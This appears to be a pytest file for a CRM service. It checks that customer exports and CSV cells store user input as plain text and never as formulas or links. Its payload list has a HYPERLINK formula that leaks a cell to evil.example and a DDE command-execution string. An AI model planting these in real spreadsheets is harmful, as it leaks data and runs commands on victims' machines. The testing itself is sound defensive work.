"""Issue 11.2: what users typed is written as text in every export, never as a formula or a link."""
import io

import pytest
from openpyxl import load_workbook

from crm_saas.core.spreadsheets import csv_cell, workbook
from tests.api_client import run_export_here, valid_customer

PAYLOADS = ['=HYPERLINK("http://evil.example/?leak="&A2,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd",
            "http://evil.example/", "0012345"]


def test_a_formula_shaped_customer_is_exported_as_the_text_typed(app, tenant, admin_api):
    customer = valid_customer(name=PAYLOADS[0], address=PAYLOADS[1], tags=PAYLOADS[2:5], remarks="x")
    assert admin_api.post("/customers", json=customer).status_code == 201
    export = admin_api.post("/exports", json={"kind": "customers", "filters": {}}).get_json()
    assert run_export_here(app, tenant, export["id"]) == 1
    sheet = load_workbook(io.BytesIO(admin_api.get(f"/exports/{export['id']}/download").data)).active
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "formulas in the export"
    assert not [c.coordinate for c in cells if c.hyperlink], "links in the export"
    values = {c.value for c in cells}
    assert PAYLOADS[0] in values and PAYLOADS[1] in values
    assert ", ".join(PAYLOADS[2:5]) in values


def test_the_shared_workbook_writes_every_string_as_a_string(tmp_path):
    path = tmp_path / "book.xlsx"
    book = workbook(str(path))
    book.add_worksheet().write_row(0, 0, PAYLOADS)
    book.close()
    cells = list(load_workbook(path).active.iter_rows())[0]
    assert [(c.data_type, c.value) for c in cells] == [("s", p) for p in PAYLOADS]


@pytest.mark.parametrize("value,expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@A1", "'@A1"), ("\t=1", "'\t=1"), ("plain", "plain"),
    (12, 12), (None, None),
])
def test_csv_cells_that_a_spreadsheet_would_run_are_made_inert(value, expected):
    assert csv_cell(value) == expected
